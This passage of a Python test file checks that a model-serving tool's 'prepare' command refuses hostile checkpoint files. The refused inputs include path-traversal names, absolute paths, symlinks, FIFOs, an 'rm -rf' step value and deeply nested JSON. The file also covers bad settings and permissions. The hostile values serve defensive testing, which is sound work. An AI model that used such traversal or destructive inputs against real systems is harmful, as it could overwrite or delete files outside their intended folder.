    outside = models / "outside.safetensors"  # what `../outside.safetensors` names from the folder
    outside.write_bytes(b"precious")
    (models / "outside.safetensors.pre").write_bytes(b"the attacker's")  # a restore would link it over `outside`
    (models / ".prepare.lock").touch()  # prepare's own, the one file it may make here
    profiles = tmp_path / "profiles.json"
    profiles.write_text(json.dumps({"model": {"source": "huggingface", "repo": "org/model", "revision": revision,
                                              "path": str(folder), "served_name": "m", "drafters": {}},
                                    "profiles": {}, "hosts": {}}))
    env = {"SERVEKIT_PROFILES": str(profiles), "HF_HUB_OFFLINE": "1", "PATH": os.environ["PATH"]}
    return folder, outside, env


JOURNAL_FILE = ".servekit-convert.json"


@pytest.mark.parametrize("hostile, says", [
    ({JOURNAL_FILE: {"step": "lm_head", "shards": ["../outside.safetensors"], "config": "{}"}}, "'../outside.safetensors'"),
    ({JOURNAL_FILE: {"step": "lm_head", "shards": ["/etc/x.safetensors"], "config": "{}"}}, "'/etc/x.safetensors'"),
    ({JOURNAL_FILE: {"step": "lm_head", "shards": ["model-1.safetensors"], "config": "{}"}, "link": True},
     "model-1.safetensors is a link"),
    ({JOURNAL_FILE: {"step": "rm -rf", "shards": [], "config": "{}"}}, "its step 'rm -rf' is none of"),
    ({JOURNAL_FILE: {"step": "lm_head", "shards": "model-1.safetensors", "config": "{}"}}, "not a list of file names"),
    ({JOURNAL_FILE: "[" * 100_000 + "]" * 100_000}, "not readable JSON"),
    ({JOURNAL_FILE: "fifo"}, "not a regular file"),
    ({"link": True}, "model-1.safetensors is a link"),  # the index names a link: a rewrite would land elsewhere
    ({"config": {"quant_method": "compressed-tensors", "config_groups": [{"targets": ["Linear"]}]}},
     "its config_groups is not a mapping of groups"),
    ({"config": {"quant_method": "compressed-tensors", "ignore": "lm_head"}},  # taken letter by letter, it was
     "its ignore is not a list of module names"),
], ids=["journal-dotdot", "journal-absolute", "journal-link", "journal-step", "journal-shards-text", "journal-deep",
        "journal-fifo", "index-link", "config-groups-a-list", "config-ignore-a-string"])
def test_a_checkpoint_file_that_leads_out_of_its_folder_is_refused_and_nothing_written(tmp_path, hostile, says):
    """The conversions' journal and the index name files prepare rewrites: a name with `..`, an absolute path or a
    link would have it replace a file outside the model's folder. Refused in one line, before any file is touched;
    a FIFO is never waited on, a journal nested deep is no traceback; a config whose quantization the steps could not
    read as compressed-tensors writes it is refused before any step."""
    folder, outside, env = _converting_folder(tmp_path)
    if "config" in hostile:
        (folder / "config.json").write_text(json.dumps({"quantization_config": hostile["config"]}))
    if hostile.get("link"):
        (folder / "model-1.safetensors").unlink()
        (folder / "model-1.safetensors").symlink_to(outside)
    journal = hostile.get(JOURNAL_FILE)
    if journal == "fifo":
        os.mkfifo(folder / JOURNAL_FILE)
    elif journal is not None:
        (folder / JOURNAL_FILE).write_text(journal if isinstance(journal, str) else json.dumps(journal))
    before = {p: (p.read_bytes() if p.is_file() and not p.is_fifo() else None) for p in tmp_path.rglob("*")}
    done = subprocess.run([*LAUNCHER, "prepare"], env=env,
                          capture_output=True, text=True, timeout=30)
    last = done.stderr.strip().splitlines()[-1]
    assert done.returncode == 1 and last.startswith("prepare: error: ") and says in last, done.stderr
    assert "Traceback" not in done.stderr
    assert {p: (p.read_bytes() if p.is_file() and not p.is_fifo() else None) for p in tmp_path.rglob("*")} == before


@pytest.mark.parametrize("value", ["maybe", "2", "enabled", "o n"])
def test_a_conversion_setting_that_is_neither_on_nor_off_stops_prepare_before_any_download(tmp_path, value):
    """QUANT_EMBED and its siblings take the words every switch takes (one parser: 1/true/yes/on, 0/false/no/off);
    anything else is refused in one line before prepare asks the hub for anything (nothing answers here)."""
    folder, _, env = _converting_folder(tmp_path)
    (folder / ".servekit-complete").unlink()  # not prepared: a download would come next
    env = {**env, "HF_HUB_OFFLINE": "0", "HF_ENDPOINT": "http://127.0.0.1:9", "QUANT_EMBED": value}
    done = subprocess.run([*LAUNCHER, "prepare"], env=env,
                          capture_output=True, text=True, timeout=30)
    lines = done.stderr.strip().splitlines()
    assert done.returncode == 1 and len(lines) == 1, done.stderr
    assert lines[0].startswith(f"prepare: error: QUANT_EMBED={value!r}: expected one of 1/on/true/yes for on"), lines


# --- the checkout and the machine: what a command finds in its place -------------------------------------------

@pytest.mark.parametrize("argv", [["verify"], ["image", "--target", "cpu"], ["plan"]])
def test_a_file_where_the_cache_folder_belongs_is_refused_in_one_line(repo, cli, argv):
    """.cache holds the locks, bases and engines' settings: a file there was a traceback in the first command that
    made a folder under it."""
    shutil.rmtree(repo / ".cache", ignore_errors=True)  # the copy's cached metadata
    (repo / ".cache").write_text("")
    code, _, err = cli("--matrix", str(repo / "images.yaml"), *argv)
    _refused(code, err, ".cache is not a folder", "move it away")


def test_a_wheel_that_is_no_zip_archive_is_refused_by_port_in_one_line(tmp_path):
    from servekit.build.portcheck import extract
    from servekit.errors import UserError
    wheel = tmp_path / "vllm-0.32.0-cp38-abi3-manylinux_2_31_x86_64.whl"
    wheel.write_text("<html>a proxy's error page</html>")
    with pytest.raises(UserError, match="not a readable wheel .*fetch it again") as refused:
        extract(wheel, tmp_path / "out")
    assert "\n" not in str(refused.value)


def test_a_server_published_on_an_ipv6_address_has_a_url_that_parses():
    from urllib.parse import urlsplit

    from servekit.engines.docker import local_url
    assert local_url("::1", 18020) == "http://[::1]:18020" and urlsplit(local_url("::1", 18020)).port == 18020
    assert local_url("::", 18020) == local_url("0.0.0.0", 18020) == "http://127.0.0.1:18020"


@pytest.fixture
def shared_tmp():
    """A folder another user may read (pytest's own are the owner's alone), removed afterwards."""
    folder = Path(tempfile.mkdtemp(prefix="servekit-test-"))
    folder.chmod(0o755)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def test_a_model_folder_prepare_may_not_write_is_refused_in_one_line(shared_tmp):
    """A read-only models folder (or shards another user owns) was a PermissionError traceback at the first write;
    prepare runs here as another user (nobody) than the one who owns the folder, as a container's does."""
    folder, _, env = _converting_folder(shared_tmp)
    (folder / "config.json").write_text(json.dumps({"quantization_config": {"quant_method": "compressed-tensors"}}))
    env = {**env, "QUANT_LM_HEAD": "0", "QUANT_EMBED": "0", "QUANT_MTP": "0"}
    (folder / "model.safetensors.index.json").write_text(json.dumps({"weight_map": {
        "mtp.fc.weight": "model-1.safetensors"}}))  # a BF16 MTP linear: its name goes into the config's ignore
    done = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *LAUNCHER, "prepare"], env=env, capture_output=True,
                          text=True, timeout=30)
    lines = done.stderr.strip().splitlines()
    assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr
    assert lines[-1].startswith("prepare: error: ") and "Permission denied" in lines[-1] and "SERVEKIT_UID" in lines[-1]
